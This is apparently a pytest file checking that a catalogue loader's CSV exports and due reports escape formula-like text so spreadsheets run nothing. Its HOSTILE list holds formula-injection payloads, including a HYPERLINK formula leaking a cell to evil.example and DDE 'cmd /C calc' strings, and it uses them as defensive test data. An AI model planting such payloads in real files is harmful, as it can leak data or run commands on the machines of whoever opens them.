"""CSV files the loader writes open in a spreadsheet without running anything, and read
back as the values they were written from (fake catalogue)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from fake_catalogue import FakeCatalogue

from loader.csvtext import csv_bytes, escape, unescape
from loader.due import due_report, write_due
from loader.export import export_batch
from loader.pipeline.read import read_batch
from loader.run import run_batch
from loader.template import write_template

# What a spreadsheet would run, or hide a formula behind, as text from the catalogue.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # a text that really starts with an apostrophe
    "'plain words after an apostrophe",
    "''",
    "-",
    "+",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
DOCUMENT = {
    "bcdc_type": "document",
    "resource_update_cycle": "monthly",
    "format": "csv",
    "resource_storage_location": "web or ftp site",
    "resource_type": "data",
    "resource_access_method": "direct access",
}
GEOGRAPHIC = {
    **DOCUMENT,
    "bcdc_type": "geographic",
    "format": "geojson",
    "spatial_datatype": "SDO_GEOMETRY",
    "projection_name": "epsg4326",
    "iso_topic_category": ["oceans"],
    "geographic_extent": [
        {
            "north_bound_latitude": 60,
            "south_bound_latitude": 48.3,
            "east_bound_longitude": -114.03,
            "west_bound_longitude": -139.06,
        }
    ],
}


def raw_cells(data: bytes) -> list[list[str]]:
    """The cells of a CSV file as a spreadsheet program receives them."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def would_run(cell: str) -> bool:
    """Whether a spreadsheet would take the cell for a formula."""
    if not cell.startswith(FORMULA_START):
        return False
    try:
        float(cell)  # a signed plain number is read as that number
    except ValueError:
        return True
    return False


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_starting_like_a_formula_gets_an_apostrophe_and_reads_back(text):
    written = escape(text)
    assert written == "'" + text
    assert unescape(written) == text


@pytest.mark.parametrize("text", ["-139.06", "+5", "-0.5", "-.5", "48.3", "12", "-7."])
def test_a_plain_number_is_written_as_it_is(text):
    assert escape(text) == text
    assert unescape(text) == text


@pytest.mark.parametrize(
    "text", ["Sites", "", " =1+1", "a=b", "'hello", "x'", "-139.06,-114.03", "1e5", "@"]
)
def test_whatever_is_written_reads_back_as_it_was(text):
    assert unescape(escape(text)) == text
    assert not would_run(escape(text))


def test_an_apostrophe_typed_by_the_editor_stays_unless_it_escapes_a_formula():
    assert unescape("'hello") == "'hello"  # an apostrophe the loader never writes alone
    assert unescape("'=1+1") == "=1+1"  # what Excel's own leading apostrophe means


def test_csv_bytes_is_excel_csv_utf8_with_every_text_cell_escaped():
    data = csv_bytes([["op", "description", "days"], ["patch", "=1+1", 3]])
    assert data == b"\xef\xbb\xbfop,description,days\r\npatch,'=1+1,3\r\n"


@pytest.fixture
def catalogue():
    fake = FakeCatalogue()
    resources = [
        {
            "name": f"Resource {n}",
            "url": f"https://example.com/{n}",
            "description": text,
            **DOCUMENT,
        }
        for n, text in enumerate(HOSTILE)
    ]
    resources.append({"name": '=HYPERLINK("x")', "url": "https://example.com/h", **DOCUMENT})
    resources.append({"name": "Map", "url": "https://example.com/m", **GEOGRAPHIC})
    fake.add_package("sites", resources=resources)
    return fake


def test_an_export_to_csv_runs_nothing_and_reads_back_as_the_catalogue_holds_it(
    catalogue, tmp_path
):
    exported = export_batch(catalogue, tmp_path / "e.csv", packages=["sites"])
    data = exported.path.read_bytes()

    cells = [cell for row in raw_cells(data) for cell in row]
    assert [cell for cell in cells if would_run(cell)] == []
    assert {'\'=HYPERLINK("x")', "''=1+1", "'''", "'-1+1", "'-"} <= set(cells)
    # numbers stay numbers: a spreadsheet shows -139.06, no apostrophe, and can sort it
    assert "-139.06" in cells and "-114.03" in cells and "'-139.06" not in cells

    rows = read_batch(exported.path).rows
    # every cell reads back as the export wrote it (the catalogue's value as an editor types it)
    assert [r.values for r in rows] == [{k: v for k, v in r.items() if v} for r in exported.rows]
    descriptions = [r.values.get("description") for r in rows[: len(HOSTILE)]]
    assert descriptions == [text.strip() for text in HOSTILE]
    assert rows[-2].values["name"] == '=HYPERLINK("x")'
    assert rows[-1].values["geographic_extent.west_bound_longitude"] == "-139.06"

    result = run_batch(exported.path, catalogue)
    assert result.problems == []
    assert {o.action for o in result.outcomes} == {"no change"}
    assert catalogue.calls == []


def test_a_due_report_to_csv_runs_nothing_and_reads_back(catalogue, tmp_path):
    resources = catalogue.packages["pkg-sites"]["resources"]
    for resource, name in zip(resources, HOSTILE, strict=False):
        resource.update(name=name, last_modified="2026-01-01T00:00:00")
    due = due_report(catalogue, packages=["sites"], today=dt.date(2026, 3, 1))
    path = write_due(tmp_path / "due.csv", due)

    cells = [cell for row in raw_cells(path.read_bytes()) for cell in row]
    assert [cell for cell in cells if would_run(cell)] == []
    assert "'=cmd|' /C calc'!A0" in cells and "'+1+1" in cells
    assert "'\t=1+1" in cells and "'\r=1+1" in cells
    # exactly the catalogue's names, a leading tab or carriage return included
    names = sorted(r.values["name"] for r in read_batch(path).rows)
    assert names == sorted(HOSTILE)


def test_the_csv_template_is_only_its_heading_row(tmp_path):
    path = write_template(tmp_path / "t.csv")
    assert raw_cells(path.read_bytes())[0][:3] == ["op", "package", "organization"]
